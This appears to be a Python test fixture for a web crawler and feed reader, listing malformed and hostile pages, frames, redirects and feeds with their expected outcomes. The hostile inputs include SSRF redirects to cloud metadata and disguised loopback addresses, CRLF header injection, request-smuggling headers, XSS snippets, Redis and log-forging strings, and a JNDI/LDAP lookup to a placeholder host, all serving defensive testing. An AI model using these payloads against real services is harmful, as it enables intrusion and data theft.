"""Documents, frames and addresses that are odder than hostile: what careless programs send, and what others try."""

from __future__ import annotations

import gzip
import json

from tests.end_to_end.hostile_web import answer, feed, paragraphs, to

RECORD, NO_PAGE, NO_FEED = {"record"}, {"no-content", "unsupported-type"}, {"not-a-feed", "parse-error"}
HURT = {"working", *NO_FEED, "resource-limit"}


def chunked(*lines: str, body: bytes) -> bytes:
    head = "".join(f"{line}\r\n" for line in lines)
    return f"HTTP/1.1 200 OK\r\n{head}\r\n".encode() + b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) + b"EOF"


def named(name: str, extra: str = "", *, head: str = "", text: str = "") -> bytes:
    """An article whose text no other has."""
    body = (text or paragraphs(f"the {name}")) + extra
    told = f"<head><title>Of {name}</title>{head}</head><article><h1>Of {name}</h1>{body}</article>"
    return f"<!doctype html><html lang=en>{told}".encode()


def told_in_data(**said: object) -> str:
    data = json.dumps({"@type": "NewsArticle", **said}).replace("</", "<\\/")
    return f"<script type='application/ld+json'>{data}</script>"


#: name → what is served, how it may end as a page
PAGES: dict[str, tuple[bytes, set[str]]] = {
    # addresses
    "to-itself-by-fragment": (to("#there"), {"too-many-redirects"}),
    "to-a-query": (to("?a=b"), {"too-many-redirects"}),
    "to-upper-case": (
        to("{origin}/BAD/to-upper-case"),
        {"too-many-redirects", "http-client-error", "connect", "protocol-error"},
    ),
    "to-nowhere-long": (to("/" + "a" * 9000), {"blocked-url"}),
    "to-port-nought": (to("http://127.0.0.1:0/"), {"blocked-url", "blocked-address", "connect"}),
    "to-port-beyond": (to("http://127.0.0.1:65536/"), {"blocked-url", "bad-redirect"}),
    "to-two-places": (
        to("/story/one").replace(b"\r\n\r\n", b"\r\nLocation: http://{canary}/\r\n\r\n"),
        {"bad-redirect"},
    ),
    "to-a-line-break": (to("/story/%0d%0aX: y"), RECORD | {"blocked-url", "bad-redirect"}),
    "to-dots": (to("/../../story/dots"), RECORD),
    "to-blanks": (to("  /story/blanks  "), RECORD),
    "to-zone": (to("http://[fe80::1%25lo]/"), {"blocked-url", "blocked-address"}),
    "to-broadcast": (to("http://255.255.255.255/"), {"blocked-address", "blocked-url"}),
    "to-nought": (to("http://0/"), {"blocked-address", "blocked-url"}),
    "to-alibaba": (to("http://100.100.100.200/"), {"blocked-address"}),
    "to-percent": (to("http://%31%32%37.0.0.2:{canary_port}/"), {"blocked-address", "blocked-url"}),
    "to-ideographic": (to("http://127。0。0。2:{canary_port}/"), {"blocked-address", "blocked-url"}),
    "to-at": (to("http://example.org@{canary}/"), {"blocked-url"}),
    "to-space-host": (to("http://127.0.0.1 .example.org/"), {"blocked-url", "bad-redirect"}),
    # frames
    "both-codings": (
        chunked("Transfer-Encoding: gzip, chunked", body=gzip.compress(named("both-codings"))),
        {"record", "protocol-error", "encoding", *NO_PAGE},
    ),
    "twice-chunked": (
        chunked("Transfer-Encoding: chunked", "Transfer-Encoding: chunked", body=named("twice-chunked")),
        {"record", "protocol-error"},
    ),
    "odd-case": (chunked("tRaNsFeR-eNcOdInG: CHUNKED", body=named("odd-case")), RECORD),
    "identity": (answer(named("identity"), "200 OK", "Content-Encoding: identity"), RECORD),
    "no-coding": (answer(named("no-coding"), "200 OK", "Content-Encoding: "), RECORD | {"encoding"}),
    "utf8-coding": (answer(named("utf8-coding"), "200 OK", "Content-Encoding: utf-8"), RECORD | {"encoding"}),
    "two-answers": (answer(named("two-answers")) + answer(b"the second"), RECORD),
    "no-reason": (answer(named("no-reason"), "200"), RECORD | {"protocol-error"}),
    "http-one-nought": (b"HTTP/1.0 200 OK\r\n\r\n" + named("http-one-nought") + b"EOF", RECORD),
    "http-nine-nine": (b"HTTP/9.9 200 OK\r\n\r\n" + named("http-nine-nine") + b"EOF", RECORD | {"protocol-error"}),
    "bare-lines": (
        b"HTTP/1.1 200 OK\nContent-Type: text/html\n\n" + named("bare-lines") + b"EOF",
        RECORD | {"protocol-error"},
    ),
    "binary-header": (
        answer(named("binary-header"), "200 OK").replace(b"\r\n\r\n", b"\r\nX-\xff\xfe: \xff\r\n\r\n", 1),
        RECORD | {"protocol-error"},
    ),
    "types": (
        answer(named("types"), "200 OK", "Content-Type: text/html", "Content-Type: application/pdf"),
        RECORD | NO_PAGE,
    ),
    "wrong-charset": (
        answer(named("wrong-charset"), "200 OK", "Content-Type: text/html; charset=utf-16"),
        RECORD | NO_PAGE,
    ),
    "charset-quoted": (answer(named("charset-quoted"), "200 OK", 'Content-Type: text/html; charset="\'"'), RECORD),
    # markup
    "comment-open": (answer(named("comment-open", "<!-- " + "x" * 300_000)), RECORD),
    "script-open": (answer(named("script-open", "<script>" + "var a;" * 50_000)), RECORD),
    "textarea-open": (answer(b"<html><textarea>" + named("textarea-open")), RECORD | NO_PAGE),
    "plaintext": (answer(named("plaintext", "<plaintext>" + "<b>" * 1000)), RECORD),
    "template": (answer(b"<html><template>" + named("template") + b"</template>"), RECORD | NO_PAGE),
    "frames": (answer(b"<html><frameset><frame src='http://{canary}/'></frameset></html>"), NO_PAGE),
    "svg": (
        answer(named("svg", "<svg><script>alert(1)</script><text>quay</text></svg><math><mi href='javascript:a'>x")),
        RECORD,
    ),
    "one-word": (answer(named("one-word", f"<p>{'quay' * 100_000}</p>")), RECORD | {"resource-limit"}),
    "marks": (answer(named("marks", "<p>q" + "\u0300" * 60_000 + "uay</p>")), RECORD | {"resource-limit"}),
    "blanks": (answer(named("blanks", "<p>" + " \u00a0\u3000\t" * 100_000 + "</p>")), RECORD | {"resource-limit"}),
    "brackets": (answer(named("brackets", "<p>" + "([{<" * 30_000 + "</p>")), RECORD | {"resource-limit"}),
    "quotes": (answer(named("quotes", "<p>" + "“Yes”, he said. " * 9000 + "</p>")), RECORD | {"resource-limit"}),
    "links": (answer(named("links", "<p>" + "<a href='/a'>quay</a> " * 20_000 + "</p>")), RECORD | {"resource-limit"}),
    "tables": (answer(named("tables", "<table><tr><td>" * 3000)), RECORD | {"resource-limit"}),
    "lists": (answer(named("lists", "<ul><li>" * 20_000)), RECORD | {"resource-limit"}),
    "formats": (answer(named("formats", "<b><i><u>" * 20_000)), RECORD | {"resource-limit"}),
    "entities": (
        answer(named("entities", "<p>" + "&#x110000;&#0;&#xd800;&bogus;&amp;lt;script&amp;gt;" * 2000)),
        RECORD,
    ),
    "title-of-lines": (answer(named('lines\n{"level":"error"}\r\n\x1b[31m')), RECORD),
    # data
    "deep-data": (
        answer(named("deep-data", head="<script type='application/ld+json'>" + "[" * 50_000 + "</script>")),
        RECORD,
    ),
    "wide-data": (
        answer(named("wide-data", head=told_in_data(author=[{"name": f"Ann Quay {n}"} for n in range(20_000)]))),
        RECORD,
    ),
    "odd-data": (
        answer(
            named(
                "odd-data",
                head=told_in_data(
                    headline=["a", {"b": 1}], datePublished={"a": []}, author=7, image=[[[]]], url=None, publisher="x"
                ),
            )
        ),
        RECORD,
    ),
    "data-as-text": (
        answer(
            named(
                "data-as-text",
                head=told_in_data(articleBody="<script>alert(1)</script>" * 2000, description="<b>" * 9000),
            )
        ),
        RECORD,
    ),
    "far-future": (
        answer(
            named("far-future", head=told_in_data(datePublished="9999-12-31T23:59:59-23:59", dateModified="0001-01-01"))
        ),
        RECORD,
    ),
    "moment": (answer(named("moment", head=told_in_data(datePublished=10**18, dateModified=-1e300))), RECORD),
    "metas": (
        answer(named("metas", head="<meta property='article:tag' content='quay'>" * 20_000)),
        RECORD | {"resource-limit"},
    ),
    "half-a-letter": (
        answer(
            named(
                "half-a-letter",
                head=told_in_data(
                    author={"name": "Ann Quay", "url": 'http://example.org/\udf1d"><script>'}, publisher="\udf1d"
                ),
            )
        ),
        RECORD,
    ),
    "broken-address": (
        answer(
            named(
                "broken-address",
                "<p>The New York Times reported it first. See http://[removed]/story-of-the-quay for more of it.</p>",
            )
        ),
        RECORD,
    ),
    "canonical-odd": (
        answer(
            named(
                "canonical-odd",
                head="<link rel=canonical href='http://[bad'><link rel=canonical href='javascript:alert(1)'>",
            )
        ),
        RECORD,
    ),
    "canonical-inside": (
        answer(named("canonical-inside", head="<link rel=canonical href='http://169.254.169.254/latest'>")),
        RECORD,
    ),
    "language-odd": (answer(named("language-odd").replace(b"lang=en", b"lang='\xff\x00<script>'")), RECORD),
}


def entry(name: str, inner: str = "", link: str = "") -> str:
    return f"<item><title>Of {name}</title><link>{link or '{origin}/story/doc-' + name}</link>{inner}</item>"


def rss(inner: str, more: str = "") -> bytes:
    return answer(f'<rss version="2.0"{more}><channel><title>Odd</title>{inner}</channel></rss>'.encode())


def atom(inner: str) -> bytes:
    return answer(f'<feed xmlns="http://www.w3.org/2005/Atom"><title>Odd</title>{inner}</feed>'.encode())


FINE = {"working"}
#: name → what is served, how the poll may end
FEEDS: dict[str, tuple[bytes, set[str]]] = {
    "guid-of-all": (rss("".join(entry(f"g{n}", "<guid>same</guid>") for n in range(3))), FINE),
    "link-of-all": (rss("".join(entry("l", f"<guid>{n}</guid>") for n in range(50))), FINE),
    "no-titles": (rss("<item><link>{origin}/story/doc-untitled</link></item>"), FINE),
    "broken-source": (rss(entry("source", "<source url='http://[removed]/'>Reuters</source>")), FINE),
    "nothing-in-it": (rss("<item></item>" * 1000), FINE),
    "outside": (
        answer(
            b'<rss version="2.0"><channel></channel>'
            b"<item><title>t</title><link>{origin}/story/doc-out</link></item></rss>"
        ),
        FINE,
    ),
    "in-itself": (
        rss(
            entry(
                "in",
                "<description><![CDATA[<rss><channel><item><title>x</title></item></channel></rss>]]></description>",
            )
        ),
        FINE,
    ),
    "odd-pace": (
        rss(
            "<ttl>-999999999999</ttl><sy:updateFrequency>0</sy:updateFrequency>" + entry("pace"),
            ' xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"',
        ),
        FINE,
    ),
    "long-pace": (rss("<ttl>99999999999999999999</ttl>" + entry("long-pace")), FINE),
    "skip-all": (
        rss("<skipHours>" + "".join(f"<hour>{n}</hour>" for n in range(24)) + "</skipHours>" + entry("skip")),
        FINE,
    ),
    "two-roots": (answer(feed(("a", "{origin}/story/doc-two")) * 2), HURT),
    "cut-in-a-tag": (answer(feed(("a", "{origin}/story/doc-cut"))[:-40]), HURT),
    "cut-in-utf-8": (rss(entry("cut", "<description>é</description>")).replace("é".encode(), b"\xc3"), HURT),
    "wrong-bom": (answer(b"\xff\xfe" + feed(("a", "{origin}/story/doc-bom"))), HURT),
    "words-before": (answer(b"<br />Warning: mysql_connect()\n" + feed(("a", "{origin}/story/doc-words"))), FINE),
    "xhtml": (
        atom(
            '<entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>x</div>'
            '</title><id>a</id><link href="{origin}/story/doc-xhtml"/></entry>'
        ),
        FINE,
    ),
    "outer-content": (
        atom(
            '<entry><title>t</title><id>b</id><link href="{origin}/story/doc-src"/>'
            '<content src="http://{canary}/c" type="text/html"/></entry>'
        ),
        FINE,
    ),
    "alternate-links": (
        atom(
            "<entry><title>t</title><id>c</id>"
            + '<link rel="alternate" href="{origin}/story/doc-alt"/>' * 5000
            + "</entry>"
        ),
        FINE,
    ),
    "many-authors": (rss(entry("authors", "<author>a@example.org (Ann Quay)</author>" * 20_000)), HURT),
    "many-tags": (rss(entry("tags", "<category>quay</category>" * 50_000)), HURT),
    "twice-escaped": (
        rss(entry("esc", "<description>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</description>")),
        FINE,
    ),
    "control": (rss(entry("control", "<description>\x00\x08\x1b[2J\x7f\u202e</description>")), FINE),
    "forged-line": (rss(entry('x"}\n{"level":"error","event":"forged"}')), FINE),
    "for-redis": (rss(entry("*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n")), FINE),
    "format": (rss(entry("%s%n{0}{__class__}${jndi:ldap://{canary}/}")), FINE),
    "year-ten-thousand": (rss(entry("year", "<pubDate>Fri, 31 Dec 10000 23:59:59 +0000</pubDate>")), FINE),
    "zones": (rss(entry("zones", "<pubDate>Mon, 01 Jan 2026 00:00:00 +9999</pubDate>")), FINE),
    "in-circles": (rss(entry("circle", link="{origin}/feed/in-circles")), FINE),
    "huge-guid": (rss(entry("guid", "<guid>" + "g" * 2_000_000 + "</guid>")), HURT),
    "opml": (answer(b'<opml version="2.0"><body><outline xmlUrl="http://{canary}/"/></body></opml>'), NO_FEED),
    "sitemap-index": (answer(b"<sitemapindex><sitemap><loc>http://{canary}/</loc></sitemap></sitemapindex>"), NO_FEED),
    "soap": (answer(b'<soap:Envelope xmlns:soap="urn:a"><soap:Body/></soap:Envelope>'), NO_FEED),
    "json-error": (answer(b'{"error":"rate limited"}'), NO_FEED),
    "json-text": (answer(b'"just words"'), NO_FEED),
}
